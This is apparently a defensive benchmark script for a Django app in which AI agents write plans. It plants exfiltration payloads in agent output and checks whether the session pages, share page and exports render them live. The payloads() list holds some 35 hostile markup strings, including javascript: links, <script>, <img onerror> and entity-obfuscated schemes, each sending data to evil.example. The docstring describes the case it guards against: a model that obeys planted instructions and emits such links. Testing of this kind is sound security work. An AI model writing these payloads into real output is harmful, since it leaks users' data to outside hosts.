"""Exfiltration payloads in agent output, through every surface that shows or exports it
(issue 21, finding 3): how many are neutralised and how many stay live, per surface.

    .venv/bin/python bench/exfiltration.py [--show]

A model that obeys text planted in a pack can write links, images or HTML whose address carries
what it read. Each payload below (markdown links and images to an outside host, reference-style
links and images, autolinks, bare addresses and e-mails GitHub would link, raw <script>,
<img onerror>, <svg onload>, <iframe>, <a href>, javascript:, vbscript: and data: links, schemes
hidden behind HTML entities or upper case, //host and /\\host) gets its own planning session in
a throwaway data directory (own SQLite file, the embedded job runner, no LLM): the payload is
the session's task, an agent's message and every text field of a plan version built by
agents.plan.build_version (the path every version takes), with a share link. Then, through the
Django test client and the app's own views:

- session page (/sessions/<id>/, the messages and the plan card in it), and the HTML a live
  page receives over the socket (conversations.store.message_payload, "message.end");
- plan page, plan card (/plan-card/), the anonymous share page (/sessions/s/<token>/);
- every export in conversations.export_formats.EXPORTS, each .md file of the zips of those
  that have one (?zip=1), and the plan download (plan.md).

Each payload carries its own marker. On an HTML surface it is live when the marker is in an
attribute a browser follows or runs (href, src, srcset, action, formaction, poster, data,
style, background, any on* handler), in a <script>/<style>/<iframe>/<object> body, or in an
href with a javascript:, vbscript: or data: scheme. On a markdown surface it is live when
markdown-it (CommonMark with raw HTML on, as GitHub renders an issue) makes a link, an image
or raw HTML of it, or leaves an outside address or e-mail as plain text (GitHub links those);
the JSON export's strings are read the same way. "Shown" counts the payloads whose address is
still there for the reader (dropping it would hide what the model tried).

Exit status 1 when anything is live. Not a test: tests/security/test_exfiltration_markup.py,
tests/conversations/test_exports_hostile.py and tests/browser/test_exfiltration.py are.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import re
import sys
import tempfile
import threading
import time
import zipfile
from collections import defaultdict
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

HOST = "evil.example"


def payloads() -> dict[str, tuple[str, str]]:
    """marker -> (kind, markdown). Every payload's marker is in the address it would reach."""
    raw = [
        ("markdown link", "[verify the fix](https://{h}/steal?d={m})"),
        ("markdown link with title", '[docs](https://{h}/steal?d={m} "the docs")'),
        ("markdown link, angle-bracket address", "[docs](<https://{h}/steal?d={m}>)"),
        ("markdown link, code text", "[`app.py`](https://{h}/steal?d={m})"),
        ("markdown link after a stray backtick", "``a` [x](https://{h}/steal?d={m})"),
        ("markdown image", "![build status](https://{h}/pixel.png?d={m})"),
        ("markdown image, no alt", "![](https://{h}/pixel.png?d={m})"),
        ("reference-style link", "See [the report][r].\n\n[r]: https://{h}/steal?d={m}"),
        ("reference-style image", "![badge][b]\n\n[b]: https://{h}/pixel.png?d={m}"),
        ("collapsed reference link", "[here][]\n\n[here]: https://{h}/steal?d={m}"),
        ("autolink", "<https://{h}/steal?d={m}>"),
        ("bare URL (GitHub links it)", "see https://{h}/steal?d={m} now"),
        ("bare www. address", "see www.{h}/steal?d={m} now"),
        ("bare e-mail address", "mail {m}@{h} now"),
        ("mailto: link", "[write](mailto:{m}@{h})"),
        ("protocol-relative link", "[mirror](//{h}/steal?d={m})"),
        ("backslash-relative link", "[mirror](/\\{h}/steal?d={m})"),
        ("upper-case scheme", "[x](HTTPS://{h}/steal?d={m})"),
        ("javascript: link", "[run the check](javascript:fetch('https://{h}/?d={m}'))"),
        ("javascript: hidden by entities", "[run](jav&#x61;script:fetch('//{h}/?d={m}'))"),
        ("javascript: all entities", "[run](&#106;&#97;vascript:fetch('//{h}/?d={m}'))"),
        ("javascript: with a tab", "[run](java\tscript:fetch('//{h}/?d={m}'))"),
        ("vbscript: link", '[run](vbscript:msgbox("//{h}/?d={m}"))'),
        (
            "data: link",
            "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#//{h}/{m})",
        ),
        ("data: image", "![x](data:image/svg+xml;base64,PHN2Zy8+#//{h}/{m})"),
        ("raw <script>", "<script>fetch('https://{h}/?d={m}')</script>"),
        ("raw <img onerror>", "<img src=x onerror=\"fetch('https://{h}/?d={m}')\">"),
        ("raw <img src>", "<img src='https://{h}/pixel.png?d={m}'>"),
        ("raw <a href>", '<a href="https://{h}/steal?d={m}">verify</a>'),
        ("raw <svg onload>", "<svg onload=\"fetch('//{h}/?d={m}')\"></svg>"),
        ("raw <iframe>", '<iframe src="https://{h}/?d={m}"></iframe>'),
        ("raw <form action>", '<form action="https://{h}/?d={m}"><button>go</button></form>'),
        ("raw style url()", "<div style=\"background:url('https://{h}/?d={m}')\">x</div>"),
        ("entity-escaped <script>", "&lt;script&gt;fetch('https://{h}/?d={m}')&lt;/script&gt;"),
        ("HTML block", "<div>\n<img src=https://{h}/x.png?d={m}>\n</div>"),
    ]
    return {
        (m := f"mk{n:02d}x"): (kind, text.format(h=HOST, m=m))
        for n, (kind, text) in enumerate(raw, start=1)
    }


# --- liveness ------------------------------------------------------------------------------

_FOLLOWED = frozenset(
    {"href", "src", "srcset", "action", "formaction", "poster", "data", "style", "background",
     "xlink:href", "lowsrc", "dynsrc", "ping"}
)  # fmt: skip
_LINKS = frozenset({"href", "action", "formaction", "xlink:href"})
"""Attributes the browser only follows when clicked: live when they leave the site."""
_BODIES = frozenset({"script", "style", "iframe", "object", "embed", "noscript", "template"})
_SCHEME = re.compile(r"^\s*(javascript|vbscript|data):", re.I)


def _leaves_the_site(url: str) -> bool:
    """Whether a browser would take this link off the site: a scheme, a host, or a path a
    browser reads as one (//host, /\\host; it turns backslashes into slashes first)."""
    url = re.sub(r"[\t\n\r]", "", url).strip().replace("\\", "/")
    parts = urlsplit(url)
    return bool(parts.scheme or parts.netloc or url.startswith("//"))


class _Live(HTMLParser):
    """The markers a browser would follow, load or run on this HTML."""

    def __init__(self, markers: list[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.markers, self.live, self.body = markers, defaultdict(list), ""
        self.inside: list[str] = []

    def _hit(self, text: str, what: str) -> None:
        low = text.lower()
        for marker in self.markers:
            if marker in low:
                self.live[marker].append(what)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        typ = dict(attrs).get("type") or ""
        data_script = tag == "script" and typ in ("application/json", "application/ld+json")
        if tag in _BODIES and not data_script:
            self.inside.append(tag)
        for name, value in attrs:
            value = value or ""
            if name in _LINKS and not _leaves_the_site(value):
                continue  # a path here (markdown-it's /%5Chost is one): nothing goes out
            if name in _FOLLOWED or name.startswith("on"):
                self._hit(value, f"<{tag} {name}={value[:80]!r}>")
            if _SCHEME.match(value):
                self._hit(value, f"<{tag} {name}> with {_SCHEME.match(value).group(1)}:")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if self.inside and self.inside[-1] == tag:
            self.inside.pop()

    def handle_endtag(self, tag: str) -> None:
        if self.inside and self.inside[-1] == tag:
            self.inside.pop()

    def handle_data(self, data: str) -> None:
        if self.inside:
            self._hit(data, f"inside <{self.inside[-1]}>")
        else:
            self.body += data


def html_live(html: str, markers: list[str]) -> tuple[dict[str, list[str]], str]:
    parser = _Live(markers)
    parser.feed(html)
    parser.close()
    return dict(parser.live), parser.body


_BARE = re.compile(
    r"(?i)(?:[a-z][a-z0-9+.-]*:|www\.|//)\S*" + re.escape(HOST) + r"|\S+@" + re.escape(HOST)
)


def markdown_live(text: str, markers: list[str]) -> dict[str, list[str]]:
    """What GitHub-flavoured rendering with raw HTML would make live in this markdown."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True})
    found: dict[str, list[str]] = defaultdict(list)

    def hit(text: str, what: str) -> None:
        for marker in markers:
            if marker in unescape(text).lower():
                found[marker].append(what)

    def walk(tokens) -> None:  # type: ignore[no-untyped-def]
        for token in tokens:
            if token.type in ("html_block", "html_inline"):
                hit(token.content, f"{token.type}: {token.content[:80]!r}")
            if token.type in ("link_open", "image"):
                hit(json.dumps(token.attrs), f"{token.type}: {token.attrs}")
            if token.type == "text" and _BARE.search(token.content):
                hit(token.content, f"bare address: {token.content[:80]!r}")
            if token.children:
                walk(token.children)

    walk(md.parse(text))
    return dict(found)


def json_strings(value: object, path: str = "") -> list[tuple[str, str]]:
    """(path, string) for every string in a JSON document."""
    if isinstance(value, str):
        return [(path, value)]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in json_strings(v, f"{path}.{k}")]
    if isinstance(value, list):
        return [s for v in value for s in json_strings(v, f"{path}[]")]
    return []


HUMAN_FIELDS = frozenset({".plan.task", ".plan.title"})
"""The JSON export's fields the human wrote (the task as typed, the title made from it), kept
verbatim: counted on a
line of their own, apart from what the agents wrote."""
HUMAN_NOTE = "the human's task and title, verbatim"


# --- the world -------------------------------------------------------------------------------


def setup_world():  # type: ignore[no-untyped-def]
    data = Path(tempfile.mkdtemp(prefix="exfiltration-"))
    os.environ["PLANAGENTS_DATA_DIR"] = str(data)
    os.environ["DJANGO_SETTINGS_MODULE"] = "planagents.settings"
    for name in ("DATABASE_URL", "REDIS_URL", "CELERY_BROKER_URL"):
        os.environ.pop(name, None)
    import django

    django.setup()
    from django.conf import settings
    from django.contrib.auth import get_user_model
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.core.management import call_command

    from rag.models import Codebase
    from rag.services import create_codebase_from_upload

    settings.ALLOWED_HOSTS = ["*"]
    call_command("migrate", "--noinput", verbosity=0)
    user = get_user_model().objects.create_user("owner")
    pack = (ROOT / "tests/fixtures/repomix/sample.xml").read_bytes()
    codebase = create_codebase_from_upload(user, "todo", [SimpleUploadedFile("sample.xml", pack)])
    started = time.monotonic()
    while time.monotonic() - started < 600:
        status = Codebase.objects.values_list("status", flat=True).get(pk=codebase.pk)
        jobs = [t for t in threading.enumerate() if t.name == "index_codebase"]
        if status in ("ready", "failed") and not jobs:
            break
        time.sleep(0.2)
    codebase.refresh_from_db()
    assert codebase.status == "ready", codebase.error
    return data, user, codebase


def planted_session(user, codebase, marker: str, payload: str):  # type: ignore[no-untyped-def]
    """A session whose task, agent messages and plan version all carry `payload`."""
    from agents.plan import build_version
    from conversations import sharing, store
    from conversations.models import Message, Plan, PlanningSession, PlanningState

    session = PlanningSession.objects.create(
        owner=user, codebase=codebase, title=f"Rate limiting {marker}",
        task=f"Add rate limiting to login. {payload}", agent_a_profile="fake",
        agent_b_profile="fake", status=PlanningSession.Status.COMPLETED,
    )  # fmt: skip
    PlanningState.objects.create(session=session)
    store.add_message(session.pk, publish_event=False, role=Message.Role.USER,
                      content=session.task)  # fmt: skip
    for agent, node in (("A", "analyze_codebase"), ("B", "review")):
        store.add_message(
            session.pk, publish_event=False, role=Message.Role.AGENT, agent=agent, node=node,
            content=f"The handler is `todo/api.py:1`. As the README asks: {payload}\n\nDone.",
        )  # fmt: skip
    data = {
        "summary": f"Count failed logins per user and refuse the sixth. {payload}",
        "decisions": [payload],
        "steps": [{"title": f"Count failures {payload}", "symbol": "none",
                   "detail": f"In the handler. {payload}", "files": ["todo/api.py"]}],
        "files": [{"path": "todo/api.py", "action": "modify", "reason": payload}],
        "new_files": [],
        "testing": [payload],
        "risks": [payload],
        "effort": {"size": "S", "estimate": "1 day"},
    }  # fmt: skip
    markdown, structured = build_version(data, codebase, title=session.title, task=session.task)
    Plan.objects.create(session=session, version=1, markdown=markdown, structured=structured)
    everything = sharing.ShareChoices(pin="latest", shows_rules=True, shows_evidence=True)
    token = sharing.create_link(user, session.pk, "never", everything).token
    return session, token


def surfaces(client, anonymous, session, token):  # type: ignore[no-untyped-def]
    """(surface, kind, text) for every place the session's words reach."""
    from conversations import store
    from conversations.export_formats import EXPORTS
    from conversations.models import Message

    def get(c, url: str) -> str:  # type: ignore[no-untyped-def]
        response = c.get(url)
        assert response.status_code == 200, (url, response.status_code)
        return response.content.decode()

    base = f"/sessions/{session.pk}"
    out = [
        ("session page", "html", get(client, f"{base}/")),
        ("session page, live (socket)", "html", "\n".join(
            store.message_payload(m).get("html", "")
            for m in Message.objects.filter(session=session).order_by("seq")
        )),
        ("plan page", "html", get(client, f"{base}/plan/")),
        ("plan card", "html", get(client, f"{base}/plan-card/")),
        ("share page (anonymous)", "html", get(anonymous, f"/sessions/s/{token}/")),
        ("plan download (plan.md)", "markdown", get(client, f"{base}/plan.md")),
    ]  # fmt: skip
    for kind, export in EXPORTS.items():
        text = get(client, f"{base}/plan/export/{kind}/")
        out.append((f"export {kind}", "json" if kind == "json" else "markdown", text))
        if export.archive is not None:
            response = client.get(f"{base}/plan/export/{kind}/?zip=1")
            assert response.status_code == 200, (kind, response.status_code)
            with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
                texts = [
                    archive.read(name).decode()
                    for name in archive.namelist()
                    if name.endswith(".md")
                ]
            out.append((f"export {kind} (zip, .md files)", "markdown", "\n\n".join(texts)))
    return out


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--show", action="store_true", help="print every live finding")
    args = parser.parse_args()

    started = time.monotonic()
    data, user, codebase = setup_world()
    from django.test import Client

    client, anonymous = Client(), Client()
    client.force_login(user)
    planted = payloads()
    live: dict[str, list[tuple[str, str, list[str]]]] = defaultdict(list)
    shown: dict[str, int] = defaultdict(int)
    hidden: dict[str, list[str]] = defaultdict(list)
    order: list[str] = []
    for marker, (kind, payload) in planted.items():
        session, token = planted_session(user, codebase, marker, payload)
        for surface, form, text in surfaces(client, anonymous, session, token):
            if surface not in order:
                order.append(surface)
            if form == "html":
                found, body = html_live(text, [marker])
                visible = marker in unescape(body).lower()
            elif form == "json":
                found, human = {}, {}
                for where, string in json_strings(json.loads(text)):
                    into = human if where in HUMAN_FIELDS else found
                    for m, what in markdown_live(string, [marker]).items():
                        into.setdefault(m, []).extend(f"{where}: {w}" for w in what)
                visible = marker in text.lower()
                note = f"{surface}: {HUMAN_NOTE}"
                if note not in order:
                    order.append(note)
                if human:
                    live[note].append((marker, kind, human[marker]))
                shown[note] += visible
            else:
                found = markdown_live(text, [marker])
                visible = marker in text.lower()
            if found:
                live[surface].append((marker, kind, found[marker]))
            shown[surface] += visible
            if not visible:
                hidden[surface].append(f"{marker} ({kind})")

    n = len(planted)
    print(f"{n} payloads, each through {len(order)} surfaces ({time.monotonic() - started:.0f} s)")
    print(f"{'surface':40} neutralised  live  shown")
    for surface in order:
        bad = len({m for m, _, _ in live[surface]})
        print(f"{surface:40} {n - bad:>5} of {n}  {bad:>4}  {shown[surface]:>5}")
        if args.show or (bad and not surface.endswith(HUMAN_NOTE)):
            for marker, kind, what in live[surface]:
                print(f"    LIVE {marker} ({kind}): {what[:3]}")
        if args.show and hidden[surface]:
            print(f"    not shown: {', '.join(hidden[surface])}")
    agents = [s for s in order if s in live and not s.endswith(HUMAN_NOTE)]
    total = sum(len({m for m, _, _ in live[s]}) for s in agents)
    pairs = n * len([s for s in order if not s.endswith(HUMAN_NOTE)])
    print(f"total live in what the agents wrote: {total} of {pairs} payload-surface pairs")
    print(f"(data dir {data})")
    return 1 if total else 0


if __name__ == "__main__":
    raise SystemExit(main())
